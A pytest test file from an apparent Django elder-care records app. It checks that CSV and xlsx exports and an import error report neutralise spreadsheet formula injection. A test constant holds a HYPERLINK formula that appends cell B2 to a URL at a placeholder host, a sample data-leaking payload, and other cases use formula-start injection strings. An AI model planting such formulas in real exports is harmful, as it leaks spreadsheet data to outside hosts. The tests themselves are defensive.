"""Spreadsheet formula injection (issue 20, finding 10): a name typed as a formula reaches the
exports as text, never as a live formula — in .xlsx a string cell, in .csv behind an apostrophe —
and an import's error report writes a refused formula back as text too."""

from __future__ import annotations

import csv
import io

import pytest
from django.utils import timezone
from openpyxl import load_workbook

from yanglao.conftest import client_for
from yanglao.core.export import csv_safe
from yanglao.imports import spreadsheets
from yanglao.imports.models import ImportJob

pytestmark = pytest.mark.django_db

TRAP = '=HYPERLINK("http://example.invalid/?"&B2,"点我")'


def _bytes(response) -> bytes:
    return b"".join(response.streaming_content)


def test_xlsx_export_keeps_the_formula_as_text(users, make_elder):
    make_elder(name=TRAP)
    data = _bytes(client_for(users["bob"]).get("/elders/export.xlsx"))
    sheet = load_workbook(io.BytesIO(data)).active  # not read-only: cell types are kept
    cell = sheet.cell(row=2, column=1)
    assert cell.value == TRAP
    assert cell.data_type == "s"


def test_csv_export_puts_an_apostrophe_before_it(users, make_elder):
    make_elder(name=TRAP)
    text = _bytes(client_for(users["bob"]).get("/elders/export.csv")).decode(
        "utf-8-sig"
    )
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[1][0] == "'" + TRAP


@pytest.mark.parametrize("start", ["=", "+", "-", "@"])
def test_every_formula_start_is_neutralised_in_csv(users, make_elder, start):
    make_elder(name=f"{start}1+1")
    text = _bytes(client_for(users["bob"]).get("/elders/export.csv")).decode(
        "utf-8-sig"
    )
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[1][0] == f"'{start}1+1"


@pytest.mark.parametrize("value", ["\t=1+1", "\r=1+1", "-2", "@SUM(A1)"])
def test_tab_and_carriage_return_starts_are_neutralised_too(value):
    """(Names are stripped when saved; other text fields are not.)"""
    assert csv_safe(value) == "'" + value


def test_plain_text_and_numbers_are_left_alone():
    assert csv_safe("王秀英") == "王秀英"
    assert csv_safe(-5) == -5


def test_the_import_error_report_writes_a_refused_formula_as_text(users):
    job = ImportJob(
        kind="elders",
        file_name="r.xlsx",
        created_by=users["bob"],
        status="checked",
        created_at=timezone.now(),
    )
    job.errors = [["Sheet1", 3, "姓名", TRAP, "单元格含公式"]]
    job.counts = {}
    book = load_workbook(io.BytesIO(spreadsheets.error_report(job)))
    cell = book["错误"].cell(row=2, column=4)
    assert cell.value == TRAP
    assert cell.data_type == "s"
